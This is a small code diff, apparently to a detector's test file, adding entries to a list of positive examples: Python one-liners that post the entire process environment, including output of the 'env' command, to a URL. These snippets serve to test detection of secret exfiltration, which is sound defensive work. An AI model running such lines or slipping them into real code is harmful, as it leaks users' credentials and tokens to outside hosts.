@@ -16,6 +16,8 @@ from urllib.parse import urlencode
 """
 
 POSITIVES = [
+    "requests.post(u, data=subprocess.check_output(['env']))",
+    "requests.post(u, json=dict(os.environ) if x else {})",
     "requests.post(u, data=dict(os.environ), timeout=5)",
     "requests.post(u, json=os.environ.copy(), timeout=5)",
     "requests.post(u, json={**os.environ}, timeout=5)",
